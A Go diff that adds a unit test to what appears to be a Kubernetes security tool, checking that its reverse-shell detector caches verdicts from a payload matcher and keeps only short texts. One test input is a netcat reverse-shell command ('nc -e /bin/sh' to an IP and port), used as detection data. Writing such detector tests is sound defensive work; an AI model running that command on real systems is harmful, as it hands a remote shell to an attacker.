@@ -4,6 +4,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"slices"
+	"strings"
 	"testing"
 	"time"
 
@@ -11,6 +12,8 @@ import (
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime"
 	auditv1 "k8s.io/apiserver/pkg/apis/audit/v1"
+
+	"github.com/vnfguard/vnfguard/internal/payload"
 )
 
 func userInfo(name string) authnv1.UserInfo { return authnv1.UserInfo{Username: name} }
@@ -197,4 +200,20 @@ func podViewOf(t *testing.T, raw []byte) *podView {
 		t.Fatalf("body %s: not read as a JSON object", raw)
 	}
 	return v.podSpec()
+}
+
+// TestReverseShellRemembersVerdicts: the remembered verdicts are payload.Match's, the first time and again, and
+// only texts short enough are kept.
+func TestReverseShellRemembersVerdicts(t *testing.T) {
+	long := "nc -e /bin/sh 10.0.0.1 4444 " + strings.Repeat("x", maxRememberedPayloadText)
+	for _, text := range []string{"nc -e /bin/sh 10.0.0.1 4444", "nc -z localhost 8805", "info", "", long} {
+		for range 2 {
+			if got, want := reverseShell(text), payload.Match(text); got != want {
+				t.Errorf("reverseShell(%.40q) = %q, payload.Match says %q", text, got, want)
+			}
+		}
+		if _, kept := payloadVerdicts.get(text); kept != (len(text) <= maxRememberedPayloadText) {
+			t.Errorf("%.40q (%d bytes) remembered: %v", text, len(text), kept)
+		}
+	}
 }
